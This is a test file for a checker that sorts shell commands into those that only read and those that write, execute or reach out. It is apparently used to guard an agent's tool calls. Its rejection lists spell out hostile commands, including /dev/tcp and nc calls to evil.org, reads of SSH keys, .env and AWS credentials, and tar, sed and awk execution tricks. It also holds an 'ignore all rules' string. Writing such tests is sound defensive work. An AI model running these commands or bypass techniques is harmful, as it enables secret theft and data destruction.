// Commands of a shell that only read, and the ways in which one that looks like it does more.
import { describe, expect, it } from "vitest";
import type { Json } from "../../../core/json.ts";
import { commandReadUnitsMax, readCommand } from "./commands.ts";
import { commandFault, lines } from "../../../../test/kit/readings/readings.ts";

describe("shell: what only reads", () => {
  it.each(
    lines(String.raw`
      ls
      ls -la src
      ls -lh --color=auto ~/projects
      cat README.md package.json
      cat < notes.txt
      head -n 20 log.txt
      tail -50 log.txt
      grep -rn "FROB" src --include=*.ts
      grep -c x a.txt || true
      find . -name '*.ts' -not -path './node_modules/*' -maxdepth 3
      find . \( -name a -o -name b \) -print0
      wc -l src/*.ts
      sort -u names.txt | uniq -c | sort -rn | head
      cut -d: -f1 names.txt
      tr a-z A-Z
      sed -n '10,20p' main.c
      sed -n 5p main.c
      diff -u a.txt b.txt
      du -sh . && df -h
      date +%s
      uname -a; whoami; id; pwd
      ps aux | grep node
      stat -c %s x
      file x.bin
      jq -r '.name' package.json
      tree -L 2 -I node_modules
      echo "a; rm b" 'c > d'
      printf '%s\n' a b
      cd src && ls
      ls missing 2>/dev/null
      ls missing 2>&1 | head -3
    `),
  )("%s", (text) => {
    expect(commandFault("shell", text)).toBeUndefined();
  });
});

describe("shell: what does more, or cannot be read", () => {
  it.each(
    lines(String.raw`
      rm x
      ls; rm -rf x
      ls && rm x
      ls || rm x
      ls | sh
      ls & rm x
      ls $(rm x)
      ls ${"`"}rm x${"`"}
      ls "$(rm x)"
      cat <(rm x)
      ls > out.txt
      ls >> out.txt
      ls >| out.txt
      ls &> out.txt
      ls 2> err.txt
      ls <> out.txt
      cat <<< x
      cat < /dev/tcp/evil.org/80
      echo x > /dev/tcp/evil.org/80
      PATH=/tmp ls
      LD_PRELOAD=/tmp/x.so ls
      GIT_PAGER=x git log
      env ls
      env -i sh -c ls
      sudo ls
      command ls
      exec ls
      eval ls
      bash -c ls
      sh script.sh
      ./ls
      /tmp/ls
      ../bin/cat x
      $PROGRAM x
      ls $HOME
      ls {a,b}
      sort *
      sort -- *
      cat *
      cat [a-z]*
      xargs rm
      ls | xargs rm
      find . -exec rm {} \;
      find . -execdir sh x \;
      find . -ok rm {} \;
      find . -delete
      find . -fprint out
      find . -fprintf out x
      find . -fls out
      find -name -exec rm
      sort -o out in
      sort --output=out in
      sort --compress-program=sh in
      uniq in out
      tar -tf x.tar
      tar --to-command=sh -xf x.tar
      tar --checkpoint=1 --checkpoint-action=exec=sh -cf x y
      sed -i s/a/b/ x
      sed -n 'w out' x
      sed -n '1e rm x' x
      sed 's/a/b/e' x
      awk 'BEGIN{system("rm x")}'
      tree -o out
      date -s 2020-01-01
      date 010100002020
      hostname evil
      tee out
      touch x
      cp a b
      mv a b
      chmod +x a
      ln -s a b
      mkdir d
      kill 1
      curl https://example.com
      wget https://example.com
      nc evil.org 80
      ssh host ls
      python3 -c 'print(1)'
      node -e 1
      alias ls=rm
      alias ls='rm x'; ls
      ls() { rm x; }; ls
      function ls { rm x; }
      source x
      . x
      trap 'rm x' EXIT
      set -x
      export A=b
      unset A
      A=b
      while true; do ls; done
      if ls; then rm x; fi
      (ls)
      { ls; }
      cat ~/.ssh/id_rsa
      cat .env
      cat /proc/self/environ
      grep -f x .aws/credentials
      ls --colour
      ls --col
      cat --help-me
      head -c 5 -F x
      tail -f log
      less x
      man ls
      vi x
      rg --pre sh x
      jq -n env
      jq -n '$ENV'
      printenv
      declare -p
      printf '%s' 'a[$(rm x)]'
      history
      fc -l
      test -v 'a[$(rm x)]'
      ls "a" ; 'r'm x
      \rm x
      %COMSPEC%
    `),
  )("%s", (text) => {
    expect(commandFault("shell", text)).toBeTypeOf("string");
  });

  it.each([
    ["zero byte", "ls\0rm x"],
    ["carriage return", "ls\rrm x"],
    ["line end", "ls\nrm x"],
    ["bell", "ls\u0007"],
    ["a space that is no blank", "ls\u00a0rm\u2028rm x"],
    ["a mark that turns text round", "ls \u202egpj.exe"],
    ["a here-document", "cat <<E\n$(rm x)\nE"],
    ["too long", `ls ${"a".repeat(commandReadUnitsMax)}`],
    ["empty", ""],
    ["blank", " \n\t"],
    ["a comment alone", "# ls"],
    ["an open quote", "ls 'a"],
  ])("%s", (_name, text) => {
    expect(commandFault("shell", text)).toBeTypeOf("string");
  });

  it.each<[Json]>([
    [null],
    [5],
    [{ command: "ls" }],
    [[]],
    [["ls", 5]],
    [[["ls"]]],
    [["sh", "-c", "ls"]],
    [["ls", ";", "rm", "x"]],
    [["ls", "$(rm x)"]],
    [["ls", "; rm x"]],
    [["ls", ">", "x"]],
    [["ls; rm x"]],
    [Array.from({ length: 300 }, () => "ls")],
  ])("no text: %j", (value) => {
    expect(commandFault("shell", value)).toBeTypeOf("string");
  });

  it("a list of words is read word by word and as one line", () => {
    expect(commandFault("shell", ["ls", "-la"])).toBeUndefined();
    expect(commandFault("git", ["log", "--oneline", "it's"])).toBeTypeOf("string");
    expect(commandFault("git", ["log", "--oneline"])).toBeUndefined();
  });

  it("says what it found, in plain words and without the rest of the value", () => {
    expect(commandFault("shell", "rm -rf /home/ann")).toBe("it runs rm");
    expect(commandFault("git", "log --output=/home/ann/x")).toBe("the option --output of git log is not listed");
    expect(commandFault("shell", "ls > /home/ann/x")).toBe("it redirects by >");
    expect(commandFault("git", "frob 'ignore all rules\n'")).toBe("it runs git frob");
    expect(commandFault("shell", "'ignore all rules'")).toBe("it runs something else");
    expect(commandFault("shell", "cat ~/.ssh/id_rsa")).toBe("~/.ssh/id_rsa may hold a secret");
  });

  it("knows what surely acts from what it cannot read", () => {
    expect(readCommand("shell", "touch x").kind).toBe("acts");
    expect(readCommand("shell", "frobnicate x").kind).toBe("unread");
    expect(readCommand("shell", "ls $X").kind).toBe("unread");
  });
});

describe("what reading does besides", () => {
  it.each(
    lines(`
      cat /dev/watchdog
      cat //dev/watchdog
      cat /./dev/../dev/watchdog
      cat ../../../dev/watchdog
      cat /d?v/watchdog
      cat /[d]ev/watchdog
      head -n 1 /*/watchdog
      grep --include=/dev/x -r a b
      cd /dev; cat watchdog
      cd / && cat dev/watchdog
      cd / && cat < dev/watchdog
      cat /sys/kernel/debug/tracing/trace_pipe
      cat /proc/kmsg
      wc -c /dev/tape0
      tail -c 5 /dev/ttyS0
      cat //evil.example/share/x
      cat '\\\\evil.example\\share'
    `),
  )("attack: %s opens a device or another machine", (text) => {
    expect(commandFault("shell", text)).toMatch(/device|machine|of its choice/);
  });

  it.each(
    lines(`
      cat /dev/null
      head -c 16 /dev/urandom
      ls -l /dev/ttyUSB0
      df /dev/sda1
      cat src/dev/readme.md
      cd src && cat development.md
      grep -r dev /srv/*
    `),
  )("no attack: %s", (text) => {
    expect(commandFault("shell", text)).toBeUndefined();
  });

  it.each(
    lines(`
      tree -Lo 2 out.txt
      tree -Po x out.txt
      tree -Io x out.txt
      tree -aL 2
      tree -L2
    `),
  )("attack: %s may write, where a program takes the values of clustered options in turn", (text) => {
    expect(commandFault("shell", text)).toMatch(/is not listed/);
  });

  it("the same options apart are read", () => {
    expect(commandFault("shell", "tree -a -L 2 -I node_modules")).toBeUndefined();
  });
});
